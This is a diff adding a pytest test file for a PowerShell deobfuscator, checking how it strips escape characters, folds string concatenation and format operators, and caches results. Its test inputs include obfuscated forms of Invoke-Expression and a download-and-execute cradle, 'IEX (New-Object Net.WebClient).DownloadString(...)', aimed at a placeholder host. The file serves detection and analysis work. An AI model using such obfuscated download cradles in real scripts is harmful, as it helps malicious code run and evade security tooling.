@@ -0,0 +1,109 @@
+import pytest
+
+import deobfuscator
+from deobfuscator import deobfuscate, format_string, normalize_script
+
+
+@pytest.mark.parametrize("text, expected", [
+    # Backtick and caret escapes outside of strings.
+    ("I`E`X $x", "IEX $x"),
+    ("p^o^w^e^r^s^h^e^l^l -c calc", "powershell -c calc"),
+    ("Set-Item `\n  -Path x", "Set-Item -Path x"),
+    # Redundant escapes in strings are removed, real ones kept.
+    ('"I`E`X"', '"IEX"'),
+    ('Write-Host "a`nb"', 'Write-Host "a`nb"'),
+    ('"$env:TEMP\\I`E`X"', '"$env:TEMP\\IEX"'),
+    # Comments and whitespace.
+    ("iex <# c #> $x", "iex $x"),
+    ("IEX    (New-Object   Net.WebClient)", "IEX (New-Object Net.WebClient)"),
+    ("'a   b'", "'a   b'"),
+    # String concatenation.
+    ("$s = 'In'+'vo' + 'ke'", "$s = 'Invoke'"),
+    ("iex ('a'+'b'+$x+'c'+'d')", "iex ('ab'+$x+'c'+'d')"),
+    ("$s = 'it''s' + ' ok'", "$s = 'it''s ok'"),
+    ("(('I')+('E')+('X'))", "'IEX'"),
+    # Parentheses, pipelines and -Command start an expression again.
+    ("Write-Host ('a' + 'b')", "Write-Host ('ab')"),
+    ("Get-Item x; 'a' + 'b' | iex", "Get-Item x; 'ab' | iex"),
+    ("powershell -nop -c 'I'+'EX' $x", "powershell -nop -c 'IEX' $x"),
+    # Format operator.
+    ("'{1}{0}' -f 'voke','In'", "'Invoke'"),
+    ("(\"{2}{0}{1}\"-f 'ke-Expr','ession','Invo')", '"Invoke-Expression"'),
+    ("'{0}{{x}}' -f 'a'", "'a{x}'"),
+    ("'{0}{1}' -f ('a','b')", "'ab'"),
+    # Quoted member and command names.
+    ("$w.('Down'+'loadString')('http://x')", "$w.DownloadString('http://x')"),
+    ("$w.\"DownloadString\"('http://a')", "$w.DownloadString('http://a')"),
+    ("&('In'+'voke-Ex'+'pression') $c", "&Invoke-Expression $c"),
+    ("[Convert]::('FromBase'+'64String')('AA==')", "[Convert]::FromBase64String('AA==')"),
+    # Method arguments keep their parentheses.
+    ("$w.DownloadString('http://x')", "$w.DownloadString('http://x')"),
+])
+def test_deobfuscate(text, expected):
+    assert deobfuscate(text) == expected
+
+
+@pytest.mark.parametrize("text", [
+    # A tighter operator competes for an operand of the "+".
+    "'a' + 'b' * 3",
+    "'a' + 'b' / 2",
+    "'a' + 'b' % 2",
+    "5 - 'a' + 'b'",
+    "5 * 'a' + 'b'",
+    "-not 'a' + 'b'",
+    "$x + 'a' + 'b'",
+    # Member access and indexing bind tighter than "+".
+    "'ab'.Length + 'c'",
+    "'a' + 'bc'[0]",
+    # Command arguments are not expressions: "+" and "-f" are arguments too.
+    "Write-Host 'a' + 'b'",
+    "Write-Host 'a'+'b'",
+    "$x = Get-Foo 'a' + 'b'",
+    "Write-Host '{0}' -f 'a'",
+    # A comma makes an array operand.
+    "'a', 'b' + 'c'",
+    # Variables are not folded.
+    "\"$a\" + 'b'",
+    # Format items with alignment or format strings, and missing arguments.
+    "'{0,5}' -f 'a'",
+    "'{0:x}' -f 'a'",
+    "'{1}' -f 'a'",
+])
+def test_no_unsafe_folds(text):
+    assert deobfuscate(text) == text
+
+
+def test_fold_stops_at_tighter_operator():
+    assert deobfuscate("'a' + 'b' + 'c' * 2") == "'ab' + 'c' * 2"
+    assert deobfuscate("'{0}' -f 'a' + 'b'") == "'ab'"
+
+
+def test_format_string():
+    assert format_string("{1}{0}{1}", ["a", "b"]) == "bab"
+    assert format_string("{2}", ["a"]) is None
+    assert format_string("{0,3}", ["a"]) is None
+
+
+def test_normalize_script_returns_none_when_unchanged():
+    assert normalize_script("Get-Service -Name wuauserv") is None
+    assert normalize_script("IEX (New-Object Net.WebClient).DownloadString('http://x')") is None
+    assert normalize_script("") is None
+    assert normalize_script("I`E`X $x") == "IEX $x"
+
+
+def test_normalize_script_memoizes_by_content(monkeypatch):
+    calls = []
+    monkeypatch.setattr(deobfuscator, "deobfuscate", lambda text: calls.append(text) or text.replace("`", ""))
+    deobfuscator._cache.clear()
+    text = "I`E`X $memo"
+    assert normalize_script(text) == "IEX $memo"
+    assert normalize_script(text) == "IEX $memo"
+    assert calls == [text]
+
+
+def test_normalize_cache_is_bounded(monkeypatch):
+    monkeypatch.setattr(deobfuscator, "NORMALIZE_CACHE_SIZE", 4)
+    deobfuscator._cache.clear()
+    for number in range(10):
+        normalize_script(f"I`E`X ${number}")
+    assert len(deobfuscator._cache) == 4